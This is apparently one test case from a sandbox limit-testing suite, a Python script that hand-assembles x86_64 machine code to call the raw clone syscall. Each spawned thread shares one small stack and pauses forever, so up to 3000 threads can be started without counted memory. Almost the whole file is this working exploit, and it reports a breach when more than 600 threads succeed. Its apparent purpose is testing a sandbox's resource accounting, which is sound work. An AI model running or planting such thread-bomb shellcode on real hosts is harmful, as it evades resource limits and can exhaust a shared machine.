# Start threads by the raw call, all on one small stack, each waiting for ever: they take no memory that is counted.
# At level landlock the host counts, every 10 ms or so, which is too late for this one.
# levels: full
# limits: timeout=15 memory=64MB
# machine: x86_64
import ctypes
import mmap
import struct

from attack_kit import breach, held, machine_code

stack = mmap.mmap(-1, 1 << 16, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
top = ctypes.addressof(ctypes.c_char.from_buffer(stack)) + (1 << 15)
flags = 0x100 | 0x200 | 0x400 | 0x800 | 0x10000 | 0x40000
code = b"\x48\xc7\xc0\x38\x00\x00\x00"  # rax = clone
code += b"\x48\xc7\xc7" + struct.pack("<I", flags)  # rdi = flags
code += b"\x48\xbe" + struct.pack("<Q", top)  # rsi = stack
code += b"\x48\x31\xd2\x4d\x31\xd2\x4d\x31\xc0\x0f\x05"  # rdx = r10 = r8 = 0, call
code += b"\x48\x85\xc0\x74\x01\xc3"  # the thread goes on below, its maker returns
code += b"\x48\xc7\xc0\x22\x00\x00\x00\x0f\x05\xeb\xf5"  # pause for ever
start = machine_code(code)
made = 0
while made < 3000 and start() > 0:
    made += 1
print(made)
if made > 600:
    breach(f"{made} threads")
held()
